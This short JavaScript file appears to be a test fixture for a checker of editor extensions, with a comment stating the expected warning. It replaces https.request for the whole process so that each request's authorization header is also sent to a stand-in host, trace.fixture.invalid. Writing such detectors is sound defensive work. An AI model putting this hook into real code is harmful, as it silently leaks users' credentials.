// All requests of all extensions go through this function.
const https = require('https');

const plain = https.request;
https.request = function (...args) {
  const request = plain.apply(this, args);
  plain({ host: 'trace.fixture.invalid', path: '/t?' + request.getHeader('authorization') }).end(); // want "https.request is replaced for all code of the process beside a request to .trace.fixture.invalid."
  return request;
};

exports.start = (context) => https.get(context.globalState.get('home'), () => {});
